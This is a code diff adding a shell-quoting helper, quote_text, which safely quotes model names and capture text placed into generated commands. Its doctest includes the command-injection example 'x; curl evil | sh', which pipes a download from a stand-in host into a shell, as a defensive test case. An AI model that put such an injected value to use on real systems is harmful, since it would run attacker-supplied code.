@@ -80,6 +80,7 @@ def _word_char_end(text: str, i: int) -> int:
 
 _SAFE_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_@%+=:,./-~")
 _BARE_NAME = lazy(r"\$(?:[A-Za-z_][A-Za-z0-9_]*|\{[A-Za-z_][A-Za-z0-9_]*\})")
+_PLAIN_WORDS = lazy(r"[A-Za-z0-9]+(?: [A-Za-z0-9]+)*")
 _EXPANDABLE = lazy(r"(?:[A-Za-z0-9_@%+=:,./-]|\$[A-Za-z_][A-Za-z0-9_]*|\$\{[A-Za-z_][A-Za-z0-9_]*\})+")
 
 
@@ -220,3 +221,14 @@ def shell_word(raw: str | None, value: str) -> str:
     """The word to print for `value`: the user's own spelling `raw` where it is inert, else `value` quoted."""
     return raw if raw is not None and is_inert(raw) else quote_word(value)
 
+
+def quote_text(value: str) -> str:
+    """`value` as shell words that stand for its text only, put into a command vdiag writes (a capture, a model
+    name); plain words of letters and digits, such as vdiag's own "the model", stay as they are.
+
+    >>> quote_text("Qwen/Qwen3-8B"), quote_text("the model"), quote_text("x; curl evil | sh")
+    ('Qwen/Qwen3-8B', 'the model', "'x; curl evil | sh'")
+    """
+    import shlex
+
+    return value if _PLAIN_WORDS.fullmatch(value) else shlex.quote(value)
